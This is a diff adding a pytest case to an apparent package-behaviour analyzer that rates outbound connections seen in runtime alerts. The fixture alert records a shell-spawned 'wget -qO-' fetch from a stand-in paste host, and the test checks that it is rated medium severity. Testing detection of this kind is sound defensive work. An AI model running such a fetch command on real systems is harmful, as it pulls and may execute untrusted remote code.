@@ -211,6 +211,19 @@ def test_plain_download_by_own_code_counts_in_the_packages_favour() -> None:
     assert any("In its favour" in line for line in contact.explain)
 
 
+def test_alert_with_the_built_in_rules_fields_only() -> None:
+    fields = {
+        "proc.cmdline": "wget -qO- https://paste.example/raw/x",
+        "fd.name": "10.88.0.2:41000->198.18.1.7:443",
+        "proc.pname": "sh",
+    }
+    network = replace(samples.NETWORK, hits=(), requests=samples.NETWORK.requests[:1])
+    contact = of("outbound_connection", judge(Observation(alerts=(alert(output_fields=fields),)), network))
+    assert contact.title == "It contacted paste.example"
+    assert contact.severity == "medium", "a download tool is not the package's own code"
+    assert contact.evidence[0].what.endswith("contacted paste.example, port 443 (address 198.18.1.7)")
+
+
 @pytest.mark.parametrize("spoil", ["wget", "body", "executed", "bare address", "credentials"])
 def test_nothing_softens_a_download_that_is_more(spoil: str) -> None:
     name = "wget" if spoil == "wget" else "node"
